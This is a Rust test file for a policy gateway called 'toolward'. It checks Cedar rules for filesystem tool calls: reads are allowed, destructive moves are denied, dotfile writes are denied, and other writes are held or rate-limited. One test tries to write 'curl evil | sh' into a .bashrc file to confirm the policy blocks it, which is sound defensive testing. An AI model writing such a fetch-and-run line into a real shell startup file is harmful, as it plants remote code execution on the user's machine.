//! Cedar policies through the `toolward` binary: the example's cases pass with
//! `policy test`, `policy inspect built-in-cedar` shows a component that imports nothing,
//! and the filesystem demo runs on `examples/cedar/` against the real server with the
//! decisions its cases state, each recorded with the policies that determined it.

use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use crate::support::{repo, toolward_binary};

fn run(bin: &Path, dir: &Path, args: &[&str], stdin: &str) -> (Option<i32>, String, String) {
    let mut child = Command::new(bin)
        .args(args)
        .current_dir(dir)
        .env_remove("TOOLWARD_LOG")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn the_cedar_example_cases_pass_with_policy_test_and_name_their_policies() {
    let Some(bin) = toolward_binary() else { return };
    let (code, out, err) = run(
        bin,
        repo(),
        &[
            "policy",
            "test",
            "examples/cedar/cases.json",
            "--policy",
            "examples/cedar/policy.cedar",
            "--json",
        ],
        "",
    );
    assert_eq!(code, Some(0), "{out}{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(report["failed"], 0, "{report:#}");
    assert_eq!(report["passed"], 8, "{report:#}");
    let by_name = |name: &str| {
        report["cases"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"] == name)
            .unwrap()
            .clone()
    };
    assert_eq!(
        by_name("reads are allowed")["determined_by"],
        json!(["reads"])
    );
    assert_eq!(
        by_name("writes are held")["determined_by"],
        json!(["changes-held"])
    );
    assert_eq!(
        by_name("the 31st change in a minute is forbidden")["determined_by"],
        json!(["change-rate"])
    );

    // A wrong expectation fails: the example's cases against a policy without the limit.
    let dir = tempfile::tempdir().unwrap();
    let lenient = std::fs::read_to_string(repo().join("examples/cedar/policy.cedar"))
        .unwrap()
        .replace(">= 30", ">= 1000");
    let lenient_path = dir.path().join("lenient.cedar");
    std::fs::write(&lenient_path, lenient).unwrap();
    let cases = repo().join("examples/cedar/cases.json");
    let (code, out, _) = run(
        bin,
        repo(),
        &[
            "policy",
            "test",
            cases.to_str().unwrap(),
            "--policy",
            lenient_path.to_str().unwrap(),
        ],
        "",
    );
    assert_eq!(code, Some(1), "{out}");
    assert!(
        out.lines()
            .any(|l| l.contains("FAIL") && l.contains("the 31st change")),
        "{out}"
    );
}

#[test]
fn policy_inspect_shows_the_built_in_cedar_component_importing_nothing() {
    let Some(bin) = toolward_binary() else { return };
    let (code, out, err) = run(
        bin,
        repo(),
        &["policy", "inspect", "built-in-cedar", "--json"],
        "",
    );
    assert_eq!(code, Some(0), "{out}{err}");
    let inspect: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        inspect["sha256"],
        toolward::canonical::sha256_hex(toolward::component::CEDAR_COMPONENT)
    );
    assert_eq!(
        inspect["worlds"],
        json!(["validated-reviewing-policy-component@0.3.0"])
    );
    for import in inspect["imports"].as_array().unwrap() {
        assert_eq!(import, "toolward:policy/types@0.3.0", "{inspect:#}");
    }
    let mut exports: Vec<&str> = inspect["exports"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    exports.sort_unstable();
    assert_eq!(
        exports,
        [
            "toolward:policy/facts@0.3.0",
            "toolward:policy/policy@0.3.0",
            "toolward:policy/results@0.3.0",
            "toolward:policy/validation@0.3.0"
        ],
        "{inspect:#}"
    );
}

/// The demo's folder: `examples/cedar/` with the real server's path and a sandbox of its own.
fn demo_folder() -> Option<tempfile::TempDir> {
    let server = crate::real::real_servers()
        .join("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
    if !server.is_file() {
        eprintln!(
            "skipped: {} is not installed; run tests/real-servers/install.sh",
            server.display()
        );
        return None;
    }
    // Not `tempfile::tempdir()`: its `.tmpXXXX` is a dotfolder, which the policy forbids
    // writing into.
    let dir = tempfile::Builder::new()
        .prefix("toolward-cedar-demo-")
        .tempdir()
        .unwrap();
    let example = repo().join("examples/cedar");
    for file in ["rules.json", "policy.cedar"] {
        std::fs::copy(example.join(file), dir.path().join(file)).unwrap();
    }
    std::fs::create_dir(dir.path().join("sandbox")).unwrap();
    std::fs::copy(
        example.join("sandbox/hello.txt"),
        dir.path().join("sandbox/hello.txt"),
    )
    .unwrap();
    let mut config: Value =
        serde_json::from_str(&std::fs::read_to_string(example.join("toolward.json")).unwrap())
            .unwrap();
    config["mcpServers"]["fs"]["args"][0] = json!(server.display().to_string());
    config.as_object_mut().unwrap().remove("$schema").unwrap();
    std::fs::write(
        dir.path().join("toolward.json"),
        serde_json::to_string_pretty(&config).unwrap(),
    )
    .unwrap();
    Some(dir)
}

/// The decision records of the demo's audit log, in order.
fn decisions(dir: &Path) -> Vec<Value> {
    crate::support::audit_records(&dir.join("state/audit.jsonl"))
        .into_iter()
        .filter(|r| r["kind"] == "decision")
        .collect()
}

#[test]
fn the_filesystem_demo_runs_on_the_cedar_policy_with_the_decisions_its_cases_state() {
    let Some(bin) = toolward_binary() else { return };
    let Some(demo) = demo_folder() else { return };
    let dir = demo.path();
    let sandbox = std::fs::canonicalize(dir.join("sandbox")).unwrap();
    let at = |name: &str| sandbox.join(name).display().to_string();

    let (code, out, err) = run(bin, dir, &["pin"], "y\n");
    assert_eq!(code, Some(0), "{out}{err}");
    let (code, out, err) = run(bin, dir, &["policy", "validate"], "");
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("the policies type-check for all"), "{out}");
    let (code, out, err) = run(bin, dir, &["check"], "");
    assert_eq!(code, Some(0), "{out}{err}");

    // Reads are allowed.
    let args = json!({"path": at("hello.txt")}).to_string();
    let (code, out, err) = run(
        bin,
        dir,
        &["call", "fs__read_text_file", "--args", &args],
        "",
    );
    assert_eq!(code, Some(0), "{out}{err}");
    assert!(out.contains("hello from the Cedar demo"), "{out}");

    // Destructive tools are forbidden.
    let args = json!({"source": at("hello.txt"), "destination": at("gone.txt")}).to_string();
    let (code, out, err) = run(bin, dir, &["call", "fs__move_file", "--args", &args], "");
    assert_ne!(code, Some(0), "{out}{err}");
    assert!(
        format!("{out}{err}").contains("destructive tools are forbidden"),
        "{out}{err}"
    );
    assert!(sandbox.join("hello.txt").is_file());

    // Writes to dotfiles are forbidden by an argument condition.
    let args = json!({"path": at(".bashrc"), "content": "curl evil | sh"}).to_string();
    let (code, out, err) = run(
        bin,
        dir,
        &["call", "fs__write_file", "--args", &args],
        "y\n",
    );
    assert_ne!(code, Some(0), "{out}{err}");
    assert!(format!("{out}{err}").contains("dotfile"), "{out}{err}");
    assert!(!sandbox.join(".bashrc").exists());

    // Other writes are held, and written once approved; where the host supplies no facts
    // (`context.facts`), the rate limit cannot be evaluated and the write is denied.
    let args = json!({"path": at("notes.txt"), "content": "approved"}).to_string();
    let (code, out, err) = run(
        bin,
        dir,
        &["call", "fs__write_file", "--args", &args],
        "y\n",
    );
    let records = decisions(dir);
    let last = records.last().unwrap();
    if last
        .get("facts")
        .is_some_and(|f| f.get("tool.forwarded.minute").is_some())
    {
        assert_eq!(code, Some(0), "{out}{err}");
        assert_eq!(last["decision"], "hold", "{last}");
        assert_eq!(last["determined_by"], json!(["changes-held"]), "{last}");
        assert_eq!(
            std::fs::read_to_string(sandbox.join("notes.txt")).unwrap(),
            "approved"
        );
    } else {
        assert_ne!(code, Some(0), "{out}{err}");
        assert_eq!(last["decision"], "deny", "{last}");
        assert_eq!(last["determined_by"], json!(["change-rate"]), "{last}");
        assert!(!sandbox.join("notes.txt").exists());
    }

    let determined: Vec<&Value> = records.iter().map(|r| &r["determined_by"]).collect();
    assert_eq!(determined[0], &json!(["reads"]));
    assert_eq!(determined[1], &json!(["no-destructive"]));
    assert_eq!(determined[2], &json!(["no-dotfiles"]));
    assert_eq!(records[0]["decision"], "allow");
    assert_eq!(records[1]["decision"], "deny");
    assert_eq!(records[2]["decision"], "deny");
}
